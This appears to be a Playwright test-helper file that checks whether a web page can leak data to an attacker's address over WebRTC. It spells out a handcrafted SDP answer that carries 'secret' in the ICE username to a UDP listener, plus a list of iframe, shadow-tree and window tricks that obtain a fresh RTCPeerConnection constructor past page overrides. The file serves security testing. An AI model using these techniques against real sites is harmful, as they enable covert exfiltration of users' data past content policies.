import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { networkInterfaces } from 'node:os';
import type { Page } from '@playwright/test';

/** Milliseconds after which a packet or a request has arrived: the first one leaves within 100 ms. */
export const TIME_FOR_PACKETS = 1500;

/** Receives the packets of a WebRTC connection that an attacker's handmade answer leads to it. */
export class UdpListener {
  readonly packets: string[] = [];
  readonly #socket = createSocket('udp4');

  static async open(): Promise<UdpListener> {
    const listener = new UdpListener();
    listener.#socket.on('message', (packet) => listener.packets.push(packet.toString('latin1')));
    listener.#socket.bind(0, '0.0.0.0');
    await once(listener.#socket, 'listening');
    return listener;
  }

  get port(): number {
    return this.#socket.address().port;
  }

  /** An address of this machine; one that other machines reach, if there is any, as an attacker's server would have. */
  readonly address =
    Object.values(networkInterfaces())
      .flat()
      .find((network) => network?.family === 'IPv4' && !network.internal)?.address ?? '127.0.0.1';

  /** The bytes of all packets so far, as text. */
  texts(): string {
    return this.packets.join('\n');
  }

  clear(): void {
    this.packets.length = 0;
  }

  close(): void {
    this.#socket.close();
  }
}

/** Expressions that get the constructor of a page's own realm, or of one that a script makes. Each may be a promise. */
export const CONSTRUCTOR_SOURCES: Readonly<Record<string, string>> = {
  'the page': `globalThis.RTCPeerConnection`,
  'the page by its older name': `globalThis.webkitRTCPeerConnection ?? globalThis.RTCPeerConnection`,
  'an empty frame': `document.body.appendChild(document.createElement('iframe')).contentWindow.RTCPeerConnection`,
  'the document of an empty frame': `document.body.appendChild(document.createElement('iframe')).contentDocument.defaultView.RTCPeerConnection`,
  'a frame made from HTML, found by its name': `(document.body.insertAdjacentHTML('beforeend', '<iframe name="other"></iframe>'), window.other.RTCPeerConnection)`,
  'a frame with a source, before that is loaded': `document.body.appendChild(Object.assign(document.createElement('iframe'), { src: '/first-paint.js' })).contentWindow.RTCPeerConnection`,
  'a frame with a source, found by its number': `(document.body.appendChild(Object.assign(document.createElement('iframe'), { srcdoc: 'text' })), window[window.length - 1].RTCPeerConnection)`,
  'a frame with a document of its own': `new Promise((resolve) => {
    const frame = Object.assign(document.createElement('iframe'), { srcdoc: 'text' });
    frame.addEventListener('load', () => resolve(frame.contentWindow.RTCPeerConnection));
    document.body.append(frame);
  })`,
  'a frame in a closed shadow tree': `document.body
    .appendChild(document.createElement('div'))
    .attachShadow({ mode: 'closed' })
    .appendChild(document.createElement('iframe')).contentWindow.RTCPeerConnection`,
  'a frame in a frame': `(() => {
    const { contentDocument } = document.body.appendChild(document.createElement('iframe'));
    return contentDocument.body.appendChild(contentDocument.createElement('iframe')).contentWindow.RTCPeerConnection;
  })()`,
  'an object': `new Promise((resolve) => {
    const element = Object.assign(document.createElement('object'), { data: 'about:blank', type: 'text/html' });
    document.body.append(element);
    setTimeout(() => resolve(element.contentWindow?.RTCPeerConnection), 300);
  })`,
  'a new window': `window.open('about:blank')?.RTCPeerConnection`,
};

/**
 * Makes a page send the text "secret" to the listener: the page's script writes the other side's answer by hand, and the text
 * is the user name of the connectivity checks.
 * @param source A key of {@link CONSTRUCTOR_SOURCES}.
 * @returns `sent`, or why it is impossible.
 */
export function sendByWebRtc(page: Page, source: string, { address, port }: UdpListener): Promise<string> {
  const answer = [
    'v=0',
    'o=- 1 1 IN IP4 127.0.0.1',
    's=-',
    't=0 0',
    'a=group:BUNDLE 0',
    'm=application 9 UDP/DTLS/SCTP webrtc-datachannel',
    'c=IN IP4 0.0.0.0',
    'a=mid:0',
    'a=ice-ufrag:secret',
    `a=ice-pwd:${'p'.repeat(24)}`,
    `a=fingerprint:sha-256 ${Array(32).fill('AA').join(':')}`,
    'a=setup:passive',
    'a=sctp-port:5000',
    `a=candidate:1 1 udp 2122260223 ${address} ${port} typ host`,
    '',
  ].join('\r\n');
  // The expression is a part of the script, because the page's policy forbids `eval`.
  return page.evaluate(`(async () => {
    const Connection = await ${CONSTRUCTOR_SOURCES[source]};
    if (Connection === undefined) return 'no constructor';
    const connection = new Connection();
    connection.createDataChannel('text');
    await connection.setLocalDescription();
    await connection.setRemoteDescription({ type: 'answer', sdp: ${JSON.stringify(answer)} });
    await new Promise((resolve) => setTimeout(resolve, ${TIME_FOR_PACKETS}));
    return 'sent';
  })()`);
}
